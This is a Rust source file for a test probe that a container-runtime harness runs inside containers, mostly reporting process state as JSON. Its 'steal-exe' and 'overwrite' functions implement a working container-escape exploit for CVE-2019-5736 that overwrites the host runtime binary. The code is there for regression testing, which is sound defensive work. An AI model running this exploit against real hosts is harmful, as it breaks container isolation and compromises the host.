//! `probe`: a tiny static program copied into every test rootfs as `/probe`.
//!
//! Each subcommand prints exactly one JSON value on stdout so the test harness
//! can assert on what the containerised process really sees. Failures of the
//! requested operation are reported as JSON too (`{"ok":false,"errno":..}`)
//! with exit status 0; only usage errors exit non-zero.

use serde_json::{json, Map, Value};
use std::fs;
use std::io::{self, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::process::exit;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| -> &str {
        args.get(i)
            .map(String::as_str)
            .unwrap_or_else(|| usage_error(&format!("missing argument #{i} for {:?}", args.first())))
    };
    let out = match args.first().map(String::as_str).unwrap_or("info") {
        "info" => info(),
        "exit" => exit(arg(1).parse().unwrap_or_else(|_| usage_error("exit N"))),
        "sleep" => {
            let secs: f64 = arg(1).parse().unwrap_or_else(|_| usage_error("sleep SECS"));
            std::thread::sleep(std::time::Duration::from_secs_f64(secs));
            json!({"ok": true})
        }
        "read" => result(fs::read(arg(1)).map(|c| json!(String::from_utf8_lossy(&c)))),
        "write" => result(fs::write(arg(1), arg(2)).map(|_| Value::Null)),
        "mkdir" => result(fs::create_dir_all(arg(1)).map(|_| Value::Null)),
        // Opens (and closes) a path: r, w or rw. Devices are checked at open.
        "open" => {
            let (read, write) = match arg(2) {
                "r" => (true, false),
                "w" => (false, true),
                "rw" => (true, true),
                _ => usage_error("open PATH r|w|rw"),
            };
            result(fs::OpenOptions::new().read(read).write(write).open(arg(1)).map(|_| Value::Null))
        }
        // Allocates and touches MiB of memory, for memory-limit tests.
        "alloc" => {
            let mib: usize = arg(1).parse().unwrap_or_else(|_| usage_error("alloc MIB"));
            let mut held = Vec::new();
            for _ in 0..mib {
                held.push(vec![1u8; 1 << 20]);
            }
            json!({"ok": true, "mib": held.len()})
        }
        "stat" => stat(arg(1)),
        "ls" => result(fs::read_dir(arg(1)).and_then(|d| {
            let mut names = d
                .map(|e| e.map(|e| e.file_name().to_string_lossy().into_owned()))
                .collect::<io::Result<Vec<_>>>()?;
            names.sort();
            Ok(json!(names))
        })),
        "fds" => fds(),
        "wait-signal" => wait_signal(),
        "steal-exe" => steal_exe(arg(1), arg(2).as_bytes()),
        "subreaper" => subreaper(&args[1..]),
        // A raw syscall by number, up to three arguments: what a filter returns for it.
        "syscall" => {
            let numbers: Vec<i64> = args[1..]
                .iter()
                .map(|a| a.parse().unwrap_or_else(|_| usage_error("syscall NR [ARG...]")))
                .collect();
            let [nr, a, b, c] = [0, 1, 2, 3].map(|i| numbers.get(i).copied().unwrap_or(0));
            // SAFETY: the tests call syscalls that take integers or null pointers.
            let r = unsafe { libc::syscall(nr, a, b, c) };
            result(if r < 0 { Err(io::Error::last_os_error()) } else { Ok(json!(r)) })
        }
        // One datagram to $NOTIFY_SOCKET (sd_notify), e.g. "READY=1".
        "notify" => result(notify(arg(1))),
        // An extended attribute's value (security.selinux: a file's SELinux label).
        "xattr" => result(xattr(arg(1), arg(2))),
        // The SELinux label of this process's session keyring.
        "keyring-label" => result(keyring_label()),
        // Counts forever through a UNIX socket and an open file (checkpoint tests).
        "socket-counter" => socket_counter(arg(1)),
        other => usage_error(&format!("unknown subcommand {other:?}")),
    };
    print_json(&out);
}

/// Counts through state a checkpoint must carry over: every 100 ms the number goes
/// over a connected UNIX socket (bound at /tmp/counter.sock) to a child, which
/// appends it to `file` through a descriptor opened once and sends it back; the
/// echo is printed on stdout, one line per number. Never returns.
fn socket_counter(file: &str) -> ! {
    use io::BufRead;
    use std::os::unix::net::{UnixListener, UnixStream};
    let path = "/tmp/counter.sock";
    let _ = fs::remove_file(path);
    let listener = UnixListener::bind(path).expect("bind the counter socket");
    let mut log = fs::OpenOptions::new().create(true).append(true).open(file).expect("open the counter file");
    // SAFETY: the probe is single-threaded; the child only does plain I/O.
    if unsafe { libc::fork() } == 0 {
        let mut conn = UnixStream::connect(path).expect("connect to the counter socket");
        let lines = io::BufReader::new(conn.try_clone().expect("clone")).lines();
        for line in lines.map_while(Result::ok) {
            let _ = writeln!(log, "{line}");
            let _ = writeln!(conn, "{line}");
        }
        exit(0);
    }
    let (mut conn, _) = listener.accept().expect("accept the counter connection");
    let mut echoes = io::BufReader::new(conn.try_clone().expect("clone")).lines();
    for i in 0u64.. {
        let _ = writeln!(conn, "{i}");
        let echo = echoes.next().and_then(Result::ok).unwrap_or_default();
        let _ = writeln!(io::stdout(), "{echo}");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    unreachable!("the counter counts forever")
}

fn print_json(v: &Value) {
    let mut stdout = io::stdout().lock();
    let _ = writeln!(stdout, "{v}");
    let _ = stdout.flush();
}

fn usage_error(msg: &str) -> ! {
    print_json(&json!({"ok": false, "error": msg}));
    exit(2)
}

/// `{"ok":true,"content":..}` or `{"ok":false,"errno":N,"error":".."}`.
fn result(r: io::Result<Value>) -> Value {
    match r {
        Ok(Value::Null) => json!({"ok": true}),
        Ok(content) => json!({"ok": true, "content": content}),
        Err(e) => json!({"ok": false, "errno": e.raw_os_error(), "error": e.to_string()}),
    }
}

fn stat(path: &str) -> Value {
    let md = match fs::symlink_metadata(path) {
        Ok(md) => md,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return json!({"exists": false}),
        Err(e) => return result(Err(e)),
    };
    let ft = md.file_type();
    let kind = [
        (ft.is_file(), "file"),
        (ft.is_dir(), "dir"),
        (ft.is_symlink(), "symlink"),
        (ft.is_char_device(), "char"),
        (ft.is_block_device(), "block"),
        (ft.is_fifo(), "fifo"),
        (ft.is_socket(), "socket"),
    ]
    .iter()
    .find(|(is, _)| *is)
    .map_or("unknown", |(_, k)| k);
    let rdev = md.rdev();
    let mut v = json!({
        "exists": true,
        "kind": kind,
        "mode": md.mode() & 0o7777,
        "uid": md.uid(),
        "gid": md.gid(),
        "major": libc::major(rdev),
        "minor": libc::minor(rdev),
        "size": md.size(),
    });
    if ft.is_symlink() {
        v["target"] = json!(readlink(path));
    }
    v
}

fn readlink(path: &str) -> Option<String> {
    fs::read_link(path).ok().map(|p| p.to_string_lossy().into_owned())
}

fn fds() -> Value {
    let mut fds = Map::new();
    // Collect the names first: reading the directory itself opens an fd.
    let names: Vec<String> = fs::read_dir("/proc/self/fd")
        .map(|d| d.filter_map(|e| e.ok()).map(|e| e.file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    for n in names {
        if let Some(target) = readlink(&format!("/proc/self/fd/{n}")) {
            fds.insert(n, json!(target));
        }
    }
    Value::Object(fds)
}

/// Blocks until SIGTERM/SIGUSR1/SIGHUP/SIGINT/SIGRTMIN+3 arrives and reports which one.
/// A handler is installed as well as the mask because a PID-namespace init
/// with SIG_DFL disposition would have the signal discarded by the kernel.
/// `{"ready":true}` goes to stderr once the mask is in place so tests know
/// when it is safe to send.
fn wait_signal() -> Value {
    extern "C" fn noop(_: libc::c_int) {}
    unsafe {
        let mut set: libc::sigset_t = std::mem::zeroed();
        libc::sigemptyset(&mut set);
        for sig in [libc::SIGTERM, libc::SIGUSR1, libc::SIGHUP, libc::SIGINT, libc::SIGRTMIN() + 3] {
            libc::signal(sig, noop as *const () as libc::sighandler_t);
            libc::sigaddset(&mut set, sig);
        }
        libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
        eprintln!("{}", json!({"ready": true}));
        let mut sig = 0;
        libc::sigwait(&set, &mut sig);
        json!({"signal": sig})
    }
}

/// CVE-2019-5736's second process, as the original exploit runs it: it watches each
/// new process that appears in its PID namespace (a runtime joining it: an `exec`, or
/// another container's init), opens its /proc/PID/exe with O_PATH as soon as it can,
/// and once `stop_file` exists waits until nothing runs what it caught (ETXTBSY), then
/// reopens each for writing through /proc/self/fd and writes `payload` over its start.
/// Reports what it saw: how many processes appeared, the errors while they could not
/// be opened, and per catch the file and how the write went.
fn steal_exe(stop_file: &str, payload: &[u8]) -> Value {
    use std::ffi::CString;
    use std::time::{Duration, Instant};
    let last_pid = || -> i32 {
        fs::read_to_string("/proc/sys/kernel/ns_last_pid")
            .ok()
            .and_then(|s| s.trim().parse().ok())
            .unwrap_or_else(|| usage_error("ns_last_pid unreadable"))
    };
    let mut refused = std::collections::BTreeSet::new();
    let (mut caught, mut appeared, mut missed) = (Vec::new(), 0, 0);
    eprintln!("{}", json!({"ready": true}));
    // PIDs come in order: one at a time, from its appearance until it is caught or
    // gone. One that came and went while this process was not running (a loaded
    // machine) is missed.
    let deadline = Instant::now() + Duration::from_secs(60);
    let (mut pid, mut seen, mut spins) = (last_pid() + 1, false, 0u32);
    while Instant::now() < deadline {
        let path = CString::new(format!("/proc/{pid}/exe")).unwrap();
        // SAFETY: a C string path; the fd, if any, is ours.
        let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
        let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
        if fd >= 0 || (errno == libc::ENOENT && seen) {
            appeared += 1;
            if fd >= 0 {
                caught.push(fd);
                // For a test that attacks until something is caught.
                eprintln!("{}", json!({"caught": caught.len()}));
            }
            (pid, seen) = (pid + 1, false);
        } else if errno != libc::ENOENT {
            seen = true;
            refused.insert(errno);
        } else {
            spins += 1;
            // Allocated, yet no exe: gone, or a zombie (its parent was outside the
            // namespace, so it waits for this process, PID 1 here, which never reaps).
            if spins % 256 == 0 && last_pid() >= pid {
                missed += 1;
                pid += 1;
            } else if spins % 1024 == 0 && fs::metadata(stop_file).is_ok() {
                break;
            }
        }
    }
    let catches: Vec<Value> = caught.iter().map(|fd| overwrite(*fd, payload)).collect();
    json!({"appeared": appeared, "missed": missed, "refused_with": refused, "caught": catches})
}

/// The exploit's last step on one caught exe: wait until the file is no longer being
/// run, reopen it for writing and write over its start.
fn overwrite(fd: i32, payload: &[u8]) -> Value {
    use std::time::{Duration, Instant};
    let by_fd = format!("/proc/self/fd/{fd}");
    let mut report = json!({"exe": readlink(&by_fd)});
    let deadline = Instant::now() + Duration::from_secs(10);
    let opened = loop {
        match fs::OpenOptions::new().write(true).open(&by_fd) {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(2))
            }
            r => break r,
        }
    };
    report["open_for_write"] = match &opened {
        Ok(_) => json!("ok"),
        Err(e) => json!(e.raw_os_error()),
    };
    if let Ok(file) = opened {
        report["write"] = match std::os::unix::fs::FileExt::write_at(&file, payload, 0) {
            Ok(n) => json!(format!("wrote {n} bytes")),
            Err(e) => json!(e.raw_os_error()),
        };
    }
    report
}

fn proc_status() -> Map<String, Value> {
    fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.to_string(), json!(v.trim())))
        .collect()
}

fn info() -> Value {
    let status = proc_status();
    let field = |k: &str| status.get(k).and_then(Value::as_str).unwrap_or("");
    let uname = unsafe {
        let mut u: libc::utsname = std::mem::zeroed();
        libc::uname(&mut u);
        u
    };
    let cstr =
        |s: &[libc::c_char]| unsafe { std::ffi::CStr::from_ptr(s.as_ptr()).to_string_lossy().into_owned() };
    let isatty = |fd| unsafe { libc::isatty(fd) == 1 };
    let namespaces: Map<String, Value> = ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"]
        .iter()
        .map(|ns| (ns.to_string(), json!(readlink(&format!("/proc/self/ns/{ns}")))))
        .collect();
    json!({
        "uid": unsafe { libc::getuid() },
        "gid": unsafe { libc::getgid() },
        "euid": unsafe { libc::geteuid() },
        "egid": unsafe { libc::getegid() },
        "groups": groups(),
        "pid": std::process::id(),
        "ppid": unsafe { libc::getppid() },
        "cwd": std::env::current_dir().ok().map(|p| p.to_string_lossy().into_owned()),
        "umask": u32::from_str_radix(field("Umask"), 8).ok(),
        "hostname": cstr(&uname.nodename),
        "domainname": cstr(&uname.domainname),
        "machine": cstr(&uname.machine),
        "env": std::env::vars_os()
            .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
            .collect::<Vec<_>>(),
        "caps": {
            "bounding": field("CapBnd"),
            "effective": field("CapEff"),
            "permitted": field("CapPrm"),
            "inheritable": field("CapInh"),
            "ambient": field("CapAmb"),
        },
        "no_new_privs": field("NoNewPrivs") == "1",
        "seccomp": field("Seccomp").parse::<i64>().ok(),
        "namespaces": namespaces,
        "mounts": mounts(),
        "rlimits": rlimits(),
        "oom_score_adj": fs::read_to_string("/proc/self/oom_score_adj")
            .ok()
            .and_then(|s| s.trim().parse::<i64>().ok()),
        "personality": unsafe { libc::personality(0xffff_ffff) },
        "scheduler": scheduler(),
        // ioprio_get(IOPRIO_WHO_PROCESS, self): class << 13 | level.
        "ioprio": unsafe { libc::syscall(libc::SYS_ioprio_get, 1, 0) },
        "uid_map": fs::read_to_string("/proc/self/uid_map").ok(),
        "gid_map": fs::read_to_string("/proc/self/gid_map").ok(),
        "isatty": {"stdin": isatty(0), "stdout": isatty(1)},
    })
}

/// Policy, real-time priority and nice value, from /proc/self/stat (fields 41, 40
/// and 19; the command name in field 2 may hold spaces, so count after its ')').
fn scheduler() -> Value {
    let stat = fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after_comm: Vec<&str> =
        stat.rsplit_once(')').map(|(_, rest)| rest.split_whitespace().collect()).unwrap_or_default();
    let field = |n: usize| after_comm.get(n - 3).and_then(|v| v.parse::<i64>().ok());
    json!({"policy": field(41), "rt_priority": field(40), "nice": field(19)})
}

fn groups() -> Vec<libc::gid_t> {
    unsafe {
        let n = libc::getgroups(0, std::ptr::null_mut());
        let mut gs = vec![0; n.max(0) as usize];
        let n = libc::getgroups(n, gs.as_mut_ptr());
        gs.truncate(n.max(0) as usize);
        gs
    }
}

/// /proc/self/mountinfo, one object per line; `propagation` holds the
/// optional fields (e.g. "shared:3 master:1").
fn mounts() -> Vec<Value> {
    // mountinfo escapes space, tab, newline and backslash as \ooo.
    fn unescape(s: &str) -> String {
        let mut out = Vec::new();
        let b = s.as_bytes();
        let mut i = 0;
        while i < b.len() {
            let oct =
                b.get(i + 1..i + 4).and_then(|o| u8::from_str_radix(std::str::from_utf8(o).ok()?, 8).ok());
            match (b[i], oct) {
                (b'\\', Some(c)) => {
                    out.push(c);
                    i += 4;
                }
                (c, _) => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
    fs::read_to_string("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .filter_map(|line| {
            let (pre, post) = line.split_once(" - ")?;
            let pre: Vec<&str> = pre.split(' ').collect();
            let post: Vec<&str> = post.split(' ').collect();
            Some(json!({
                "root": unescape(pre.get(3)?),
                "mount_point": unescape(pre.get(4)?),
                "options": pre.get(5)?,
                "propagation": pre[6..].join(" "),
                "fs_type": post.first()?,
                "source": unescape(post.get(1)?),
                "super_options": post.get(2)?,
            }))
        })
        .collect()
}

fn rlimits() -> Map<String, Value> {
    const NAMES: [&str; 16] = [
        "RLIMIT_CPU",
        "RLIMIT_FSIZE",
        "RLIMIT_DATA",
        "RLIMIT_STACK",
        "RLIMIT_CORE",
        "RLIMIT_RSS",
        "RLIMIT_NPROC",
        "RLIMIT_NOFILE",
        "RLIMIT_MEMLOCK",
        "RLIMIT_AS",
        "RLIMIT_LOCKS",
        "RLIMIT_SIGPENDING",
        "RLIMIT_MSGQUEUE",
        "RLIMIT_NICE",
        "RLIMIT_RTPRIO",
        "RLIMIT_RTTIME",
    ];
    let fmt = |v: libc::rlim_t| {
        if v == libc::RLIM_INFINITY {
            json!("unlimited")
        } else {
            json!(v)
        }
    };
    NAMES
        .iter()
        .enumerate()
        .map(|(resource, name)| {
            let mut rl = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
            // The RLIMIT_* constants are the indices 0..16 in this order.
            unsafe { libc::getrlimit(resource as _, &mut rl) };
            (name.to_string(), json!([fmt(rl.rlim_cur), fmt(rl.rlim_max)]))
        })
        .collect()
}

/// `subreaper COMMAND...`, run on the host: runs the command as a child subreaper,
/// so every process the command forked and did not reap comes to us when it exits.
/// Waits for it, gives stragglers 300 ms, then reports its exit code and the
/// orphans that came (zombies it left unreaped, or processes still running, which
/// are killed): `{"exit": N, "orphans": [..]}`.
fn subreaper(command: &[String]) -> Value {
    use std::os::unix::process::ExitStatusExt;
    if command.is_empty() {
        usage_error("subreaper COMMAND...");
    }
    // SAFETY: prctl with integer arguments.
    if unsafe { libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) } != 0 {
        return result(Err(io::Error::last_os_error()));
    }
    let status = match std::process::Command::new(&command[0]).args(&command[1..]).status() {
        Ok(s) => s,
        Err(e) => return result(Err(e)),
    };
    std::thread::sleep(std::time::Duration::from_millis(300));
    let mut orphans = Vec::new();
    let children = fs::read_to_string(format!("/proc/self/task/{}/children", std::process::id()));
    for pid in children.unwrap_or_default().split_whitespace().filter_map(|p| p.parse::<i32>().ok()) {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let comm = stat.split_once('(').and_then(|(_, r)| r.rsplit_once(')')).map_or("", |(c, _)| c);
        let state = stat.rsplit_once(") ").and_then(|(_, r)| r.chars().next()).unwrap_or('?');
        orphans.push(json!({"pid": pid, "comm": comm, "state": state.to_string()}));
        // SAFETY: kill and waitpid on our own child.
        unsafe {
            libc::kill(pid, libc::SIGKILL);
            libc::waitpid(pid, std::ptr::null_mut(), 0);
        }
    }
    json!({"exit": status.code().or(status.signal().map(|s| 128 + s)), "orphans": orphans})
}

fn xattr(path: &str, name: &str) -> io::Result<Value> {
    let (path, name) = (std::ffi::CString::new(path)?, std::ffi::CString::new(name)?);
    let mut buf = [0u8; 1024];
    // SAFETY: NUL-terminated strings and a buffer of the given length.
    let n = unsafe { libc::getxattr(path.as_ptr(), name.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    if n < 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(json!(String::from_utf8_lossy(&buf[..n as usize]).trim_end_matches('\0')))
}

fn keyring_label() -> io::Result<Value> {
    const KEYCTL_GET_SECURITY: libc::c_long = 17;
    const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
    let mut buf = [0u8; 1024];
    // SAFETY: keyctl writes at most buf.len() bytes into buf.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_SECURITY,
            KEY_SPEC_SESSION_KEYRING,
            buf.as_mut_ptr(),
            buf.len(),
        )
    };
    if n < 0 {
        return Err(io::Error::last_os_error());
    }
    let n = (n as usize).min(buf.len());
    Ok(json!(String::from_utf8_lossy(&buf[..n]).trim_end_matches('\0')))
}

fn notify(message: &str) -> io::Result<Value> {
    let path = std::env::var("NOTIFY_SOCKET").map_err(|_| io::Error::other("no NOTIFY_SOCKET"))?;
    let socket = std::os::unix::net::UnixDatagram::unbound()?;
    socket.send_to(message.replace("\\n", "\n").as_bytes(), &path)?;
    Ok(json!(path))
}
